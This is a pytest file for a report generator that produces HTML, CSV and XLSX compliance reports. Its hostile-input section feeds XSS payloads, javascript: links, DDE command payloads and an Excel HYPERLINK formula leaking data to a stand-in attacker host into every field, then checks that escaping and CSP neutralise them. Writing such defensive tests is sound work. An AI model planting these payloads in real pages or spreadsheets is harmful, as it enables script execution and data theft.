"""Rendering a run's reports: file layout, what pages show, spreadsheets, and hostile input.

Hostile payloads (script tags, event handlers, javascript: links, spreadsheet formulas) go into every
crawled field; the pages are then opened in real headless Chromium (tests marked `browser`) to prove
that no script ran, and the CSV/XLSX files are read back to prove that no formula is live.
"""

from __future__ import annotations

import csv
import re
import zipfile
from collections.abc import Iterator
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest

from adalscan.models import CrawlStatus, GapRow, GapStatus, Institution, SiteResult
from adalscan.reports.context import RunReportInput
from adalscan.reports.csvsafe import FORMULA_TRIGGERS
from adalscan.reports.i18n import Labels, LabelsError
from adalscan.reports.render import write_run_reports
from adalscan.reports.sample import sample_input
from detectors.spec import applicable

PWN = "window.__pwned = (window.__pwned || 0) + 1"
HOSTILE_TEXTS = [
    f"<script>{PWN}</script>",
    f'<img src=x onerror="{PWN}">',
    f'"><svg onload="{PWN}"><a x="',
    f"</td></tr></table><script>{PWN}</script>",
    f"<iframe srcdoc=\"<script>parent.{PWN}</script>\"></iframe>",
    f"<style>body{{display:none}}</style><body onload=\"{PWN}\">",
]
FORMULAS = ['=HYPERLINK("http://evil.invalid/?leak="&A1,"click me")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
HOSTILE_URLS = [f"javascript:{PWN}", "data:text/html,<script>alert(1)</script>", "JaVaScRiPt:alert(1)",
                "vbscript:msgbox(1)", "https://ok.example.test/doc.pdf"]


def hostile_input() -> RunReportInput:
    """A run in which every field that comes from a website (or the portal) carries a payload."""
    inst = Institution("evil_univ", "university", f"javascript:{PWN}", name_kk=HOSTILE_TEXTS[0],
                       name_ru=FORMULAS[0], name_en=HOSTILE_TEXTS[1], region=f"<script>{PWN}</script>",
                       city=HOSTILE_TEXTS[2], bin="<b>1</b>")
    odd_id = Institution("../../x<script>", "college", "https://odd.example.test/", name_ru=FORMULAS[1],
                         region="Astana")
    gaps: list[GapRow] = []
    payloads = HOSTILE_TEXTS + FORMULAS
    for n, spec in enumerate(applicable("university")):
        status = [GapStatus.FOUND, GapStatus.STALE, GapStatus.UNCERTAIN, GapStatus.MISSING][n % 4]
        if not spec.public:
            status = GapStatus.MANUAL
        gaps.append(GapRow(inst.id, spec.id, spec.direction, spec.observable, status, confidence=0.7,
                           evidence_url=HOSTILE_URLS[n % len(HOSTILE_URLS)], snippet=payloads[n % len(payloads)],
                           period=payloads[(n + 1) % len(payloads)], note=payloads[(n + 2) % len(payloads)],
                           override_by=payloads[n % len(payloads)] if n % 5 == 0 else ""))
    for spec in applicable("college"):
        gaps.append(GapRow(odd_id.id, spec.id, spec.direction, spec.observable,
                           GapStatus.MISSING if spec.public else GapStatus.MANUAL, snippet=FORMULAS[2]))
    procurement = {inst.id: {"status": HOSTILE_TEXTS[3], "bin": FORMULAS[3], "bin_source": HOSTILE_TEXTS[4],
                             "detail": HOSTILE_TEXTS[5], "evidence_url": f"javascript:{PWN}",
                             "red_flags": [{"flag_id": HOSTILE_TEXTS[1], "value": FORMULAS[0], "threshold": 0.5,
                                            "flagged": True, "formula": FORMULAS[0], "detail": HOSTILE_TEXTS[0]}]}}
    return RunReportInput(
        run_id="2026-03-12T0200", as_of=date(2026, 3, 12), started=datetime(2026, 3, 12, 2),
        finished=datetime(2026, 3, 12, 3), institutions=[inst, odd_id], gaps=gaps,
        sites={inst.id: SiteResult(inst.id, CrawlStatus.OK, 10, detail=HOSTILE_TEXTS[2]),
               odd_id.id: SiteResult(odd_id.id, CrawlStatus.OK, 3)},
        procurement=procurement, previous_gaps=[GapRow(g.institution_id, g.artefact_id, g.direction, g.observable,
                                                       GapStatus.MISSING) for g in gaps],
        override_alerts=[(inst.id, "hotline", HOSTILE_TEXTS[0], HOSTILE_TEXTS[1] + FORMULAS[0], FORMULAS[1])])


@pytest.fixture(scope="module")
def sample_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[Path]]:
    out = tmp_path_factory.mktemp("sample")
    return out, write_run_reports(out, sample_input())


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[Path]]:
    out = tmp_path_factory.mktemp("hostile")
    return out, write_run_reports(out, hostile_input())


# --- layout and content --------------------------------------------------------------------------------
def test_layout_of_the_report_files(sample_run: tuple[Path, list[Path]]) -> None:
    out, paths = sample_run
    reports = out / "reports"
    rel = {p.relative_to(reports).as_posix() for p in paths}
    assert {"index.html", "regional.csv", "regional_groups.csv", "regional_matrix.csv"} <= rel
    for lang in ("kk", "ru", "en"):
        assert {f"{lang}/index.html", f"{lang}/regional.html"} <= rel
        for inst in sample_input().institutions:
            for ext in ("html", "csv", "xlsx"):
                assert f"{lang}/institutions/{inst.id}.{ext}" in rel
    assert all(p.exists() for p in paths) and len(paths) == len(set(paths))
    assert not list(reports.rglob("*.tmp"))


def test_every_page_carries_the_csp_and_only_our_script(sample_run: tuple[Path, list[Path]]) -> None:
    _, paths = sample_run
    for page in (p for p in paths if p.suffix == ".html"):
        html = page.read_text(encoding="utf-8")
        head = html[: html.index("</head>")]
        assert re.search(r'<meta http-equiv="Content-Security-Policy" content="default-src &#39;none&#39;', head), page
        assert html.count("<script") <= 1, page
        assert "unsafe-inline" not in head.split("script-src")[1].split(";")[0]


def test_institution_page_shows_directions_recommendations_and_deadlines(sample_run: tuple[Path, list[Path]]) -> None:
    out, _ = sample_run
    html = (out / "reports/ru/institutions/saryarka_univ.html").read_text(encoding="utf-8")
    ru = Labels("ru")
    for direction in ("management_hr", "finance", "education", "research", "social_education"):
        assert ru.direction(direction) in html
    assert "31.03.2026" in html and "14.09.2026" in html  # 10 working days over Nauryz; six months on
    assert "Наурыз мейрамы" in html
    assert ru("sec_checklist") in html and "attestation_minutes" in html
    assert "Правка: Д. Омарова" in html  # the analyst override is shown as such
    assert ru("sec_procurement") in html and ru("flag_single_source_share") in html


def test_kazakh_pages_use_kazakh_labels(sample_run: tuple[Path, list[Path]]) -> None:
    out, _ = sample_run
    html = (out / "reports/kk/regional.html").read_text(encoding="utf-8")
    assert '<html lang="kk">' in html
    kk = Labels("kk")
    for key in ("report_regional_title", "sec_heatmap", "sec_worst_artefacts", "sec_unreachable"):
        assert kk(key) in html
    assert "Түркістан облысы" in html and "Әлеуметтік-тәрбие жұмысы" in html


def test_unreachable_site_is_shown_apart_and_not_counted(sample_run: tuple[Path, list[Path]]) -> None:
    out, _ = sample_run
    with (out / "reports/regional.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = {r["institution_id"]: r for r in csv.DictReader(fh)}
    temirtau = rows["temirtau_med_college"]
    assert temirtau["reachable"] == "0" and temirtau["coverage_pct"] == "" and temirtau["missing"] == ""
    with (out / "reports/regional_groups.csv").open(encoding="utf-8-sig", newline="") as fh:
        groups = {(r["group_kind"], r["group"]): r for r in csv.DictReader(fh)}
    karaganda = groups[("region", "Karaganda Region")]
    assert karaganda["institutions"] == "3" and karaganda["reachable"] == "2"
    reachable = [r for r in rows.values() if r["region"] == "Karaganda Region" and r["reachable"] == "1"]
    found = sum(int(r["found"]) for r in reachable)
    applicable_cells = sum(int(r["applicable_public"]) for r in reachable)
    assert float(karaganda["coverage_pct"]) == round(100 * found / applicable_cells, 1)
    html = (out / "reports/en/regional.html").read_text(encoding="utf-8")
    unreachable_section = html[html.index("Unreachable sites <span"):]
    assert "Temirtau Medical College" in unreachable_section[:3000]
    heat = html[html.index('<table class="heat"'):html.index("</table>", html.index('<table class="heat"'))]
    assert "Temirtau Medical College" not in heat


def test_changes_since_previous_run_and_history_trend(sample_run: tuple[Path, list[Path]]) -> None:
    out, _ = sample_run
    html = (out / "reports/en/institutions/astana_poly.html").read_text(encoding="utf-8")
    assert "compared with run 2025-12-10T0200" in html and "Gaps closed" in html
    assert html.count('<svg class="spark"') == 1  # coverage over the three runs
    regional = (out / "reports/en/regional.html").read_text(encoding="utf-8")
    assert "3 runs: 2025-09-15 – 2026-03-12" in regional
    # Temirtau's site is down in this run: Karaganda's change is over the two institutions seen both times.
    karaganda = regional[regional.index("<td>Karaganda Region</td>"):]
    assert "2 of 3 compared" in karaganda[:karaganda.index("</tr>")]
    assert "the mean change per institution over the institutions scanned in both runs" in regional


def test_no_previous_run(tmp_path: Path) -> None:
    data = sample_input()
    data.previous_gaps, data.history = None, []
    write_run_reports(tmp_path, data, ("en",))
    html = (tmp_path / "reports/en/institutions/astana_poly.html").read_text(encoding="utf-8")
    assert "No previous run to compare with." in html
    assert not (tmp_path / "reports/kk").exists()


def test_unknown_language_is_refused(tmp_path: Path) -> None:
    with pytest.raises(LabelsError):
        write_run_reports(tmp_path, sample_input(), ("en", "de"))


def test_institution_csv_opens_in_excel_with_recommendations(sample_run: tuple[Path, list[Path]]) -> None:
    out, _ = sample_run
    raw = (out / "reports/ru/institutions/turkistan_ped_univ.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the Cyrillic right
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    ru = Labels("ru")
    gaps = [r for r in rows if r[ru("col_status")] in (ru.status("missing"), ru.status("stale"),
                                                       ru.status("uncertain"))]
    assert gaps and all(r[ru("col_recommendation")] and r[ru("col_action_plan_due")] == "31.03.2026" for r in gaps)
    assert len(rows) == len(applicable("university"))


def test_institution_xlsx_has_frozen_filtered_sheets(sample_run: tuple[Path, list[Path]]) -> None:
    out, _ = sample_run
    wb = openpyxl.load_workbook(out / "reports/en/institutions/saryarka_univ.xlsx")
    assert wb.sheetnames == ["Summary", "Public artefacts", "Checklist", "Procurement", "Changes"]
    sheet = wb["Public artefacts"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:")
    assert sheet.column_dimensions["C"].width >= 40
    links = [c.hyperlink.target for row in sheet.iter_rows(min_row=2) for c in row if c.hyperlink]
    assert links and all(link.startswith("https://") for link in links)


# --- hostile input ---------------------------------------------------------------------------------------
def test_hostile_text_is_escaped_and_links_are_dropped(hostile_run: tuple[Path, list[Path]]) -> None:
    _, paths = hostile_run
    for page in (p for p in paths if p.suffix == ".html"):
        html = page.read_text(encoding="utf-8")
        body = html[html.index("<body>"):]
        assert "<script>window" not in body and "<img src=x" not in body and "<svg onload" not in body, page
        assert "<iframe" not in body and "<style>body" not in body, page
        assert not re.search(r"""href=["']?\s*(javascript|data|vbscript):""", html, re.IGNORECASE), page
        for anchor in re.findall(r"<a [^>]*href=\"https?://[^>]*>", html):
            assert 'rel="noopener noreferrer nofollow"' in anchor
    inst_dir = hostile_run[0] / "reports/en/institutions"
    assert any(p.name.startswith("x_script-") for p in inst_dir.iterdir())  # "../../x<script>" as a file name


def test_hostile_csv_cells_are_neutralised(hostile_run: tuple[Path, list[Path]]) -> None:
    _, paths = hostile_run
    seen_formula_text = False
    for path in (p for p in paths if p.suffix == ".csv"):
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not cell.startswith(FORMULA_TRIGGERS), (path.name, cell)
                    seen_formula_text |= cell.startswith("'=HYPERLINK")
    assert seen_formula_text  # the payload did reach the CSV, as inert text


def test_hostile_xlsx_cells_are_strings_never_formulas(hostile_run: tuple[Path, list[Path]]) -> None:
    _, paths = hostile_run
    checked = 0
    for path in (p for p in paths if p.suffix == ".xlsx"):
        with zipfile.ZipFile(path) as zf:
            for name in zf.namelist():
                if name.startswith("xl/worksheets/"):
                    assert "<f>" not in zf.read(name).decode("utf-8"), (path.name, name)
        wb = openpyxl.load_workbook(path)
        for sheet in wb.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                        assert cell.data_type == "s" and cell.quotePrefix, (path.name, cell.coordinate)
                        checked += 1
    assert checked >= 10


# --- real headless Chromium ---------------------------------------------------------------------------
@pytest.fixture(scope="module")
def browser() -> Iterator[object]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        chromium = pw.chromium.launch(executable_path="/usr/bin/chromium", args=[
            "--disable-background-networking", "--disable-component-update", "--no-first-run", "--disable-sync"])
        try:
            yield chromium
        finally:
            chromium.close()


def open_page(browser: object, path: Path) -> tuple[object, list[str]]:
    """Open a file in a fresh page; return it with the list of dialogs it tried to show."""
    page = browser.new_page()  # type: ignore[attr-defined]
    dialogs: list[str] = []

    def on_dialog(dialog: object) -> None:
        dialogs.append(dialog.message)  # type: ignore[attr-defined]
        dialog.dismiss()  # type: ignore[attr-defined]

    page.on("dialog", on_dialog)
    page.goto(path.resolve().as_uri())
    page.wait_for_load_state("load")
    page.wait_for_timeout(150)  # let onerror/onload handlers of broken images fire, if any could
    return page, dialogs


@pytest.mark.browser
def test_no_hostile_script_runs_in_chromium(browser: object, hostile_run: tuple[Path, list[Path]]) -> None:
    _, paths = hostile_run
    pages = [p for p in paths if p.suffix == ".html"]
    assert len(pages) >= 8
    for path in pages:
        page, dialogs = open_page(browser, path)
        try:
            assert page.evaluate("window.__pwned") is None, path  # type: ignore[attr-defined]
            assert dialogs == [], path
            assert page.locator("iframe").count() == 0  # type: ignore[attr-defined]
            csp = page.locator('meta[http-equiv="Content-Security-Policy"]').get_attribute("content")  # type: ignore[attr-defined]
            assert csp is not None and "default-src 'none'" in csp
            assert "script-src 'sha256-" in csp or "script-src 'none'" in csp
            hrefs = page.eval_on_selector_all("a[href]", "els => els.map(e => e.getAttribute('href'))")  # type: ignore[attr-defined]
            assert not [h for h in hrefs if re.match(r"\s*(javascript|data|vbscript):", h, re.IGNORECASE)]
            if path.name != "index.html" or path.parent.name != "reports":
                # our own hashed script did run: the page is not protected merely because JS is off
                assert page.evaluate("document.documentElement.classList.contains('js')"), path  # type: ignore[attr-defined]
        finally:
            page.close()  # type: ignore[attr-defined]
    html_page = next(p for p in pages if p.parent.name == "institutions" and "evil_univ" in p.name
                     and "/en/" in p.as_posix())
    page, _ = open_page(browser, html_page)
    try:
        assert "<script>window.__pwned" in page.inner_text("body")  # type: ignore[attr-defined]
    finally:
        page.close()  # type: ignore[attr-defined]


@pytest.mark.browser
def test_detector_sees_a_payload_when_nothing_stops_it(browser: object, tmp_path: Path) -> None:
    """Control: the same payloads in a page without escaping or CSP do run, so the check above can fail."""
    unsafe = tmp_path / "unsafe.html"
    unsafe.write_text("<!DOCTYPE html><html><body>" + HOSTILE_TEXTS[0] + HOSTILE_TEXTS[1] + "</body></html>",
                      encoding="utf-8")
    page, _ = open_page(browser, unsafe)
    try:
        assert page.evaluate("window.__pwned") >= 2  # type: ignore[attr-defined]
    finally:
        page.close()  # type: ignore[attr-defined]


@pytest.mark.browser
def test_csp_alone_blocks_injected_markup(browser: object, sample_run: tuple[Path, list[Path]], tmp_path: Path) -> None:
    """Second layer: even if escaping failed, the page's CSP keeps injected scripts and handlers from running."""
    out, _ = sample_run
    html = (out / "reports/en/institutions/astana_poly.html").read_text(encoding="utf-8")
    # (the <style> payload is left out: the CSP allows inline styles, escaping is what stops that one)
    injected = html.replace("<main>", f'<main><a id="j" href="javascript:{PWN}">j</a>' + "".join(HOSTILE_TEXTS[:5]), 1)
    target = tmp_path / "injected.html"
    target.write_text(injected, encoding="utf-8")
    page, dialogs = open_page(browser, target)
    try:
        page.click("#j")  # type: ignore[attr-defined]
        page.wait_for_timeout(100)  # type: ignore[attr-defined]
        assert page.evaluate("window.__pwned") is None and dialogs == []  # type: ignore[attr-defined]
        assert page.evaluate("document.documentElement.classList.contains('js')")  # type: ignore[attr-defined]
    finally:
        page.close()  # type: ignore[attr-defined]


@pytest.mark.browser
def test_tables_sort_and_filter_under_the_csp(browser: object, sample_run: tuple[Path, list[Path]]) -> None:
    out, _ = sample_run
    page, _ = open_page(browser, out / "reports/en/regional.html")
    try:
        names = "els => els.map(e => e.textContent.trim())"
        first = page.eval_on_selector_all("table.heat tbody td.name a", names)  # type: ignore[attr-defined]
        assert first[0] == "Turkistan Pedagogical University"  # worst coverage first
        page.click("table.heat th[data-col='1']")  # type: ignore[attr-defined]
        resorted = page.eval_on_selector_all("table.heat tbody td.name a", names)  # type: ignore[attr-defined]
        assert resorted == list(reversed(first))
        page.select_option("select[data-row-attr='data-region']", "Astana")  # type: ignore[attr-defined]
        visible = page.eval_on_selector_all(  # type: ignore[attr-defined]
            "table.heat tbody tr", "rows => rows.filter(r => !r.hidden).length")
        assert visible == 2
        assert page.inner_text("[data-count-for='heat']") == "2 / 6"  # type: ignore[attr-defined]
    finally:
        page.close()  # type: ignore[attr-defined]
    page, _ = open_page(browser, out / "reports/en/institutions/astana_poly.html")
    try:
        page.check("input[type=checkbox][data-filter-for='gaps']")  # type: ignore[attr-defined]
        shown = page.eval_on_selector_all(  # type: ignore[attr-defined]
            "table.gaps-table tbody tr", "rows => rows.filter(r => !r.hidden).map(r => r.dataset.gap)")
        assert shown and set(shown) == {"1"}
    finally:
        page.close()  # type: ignore[attr-defined]


def test_override_alerts_are_worded_in_each_language(tmp_path: Path) -> None:
    from adalscan.reports.sample import sample_input

    write_run_reports(tmp_path, sample_input())
    expected = {"kk": ("сканер қазір:", "түзету кезінде:"), "ru": ("сканер сейчас:", "при исправлении было:"),
                "en": ("scanner now says", "at override time it said")}
    for lang, (now, then) in expected.items():
        page = next((tmp_path / "reports" / lang / "institutions").glob("astana_poly*.html")).read_text("utf-8")
        assert now in page and then in page, lang
        if lang != "en":
            assert "scanner now says" not in page and "at override time" not in page
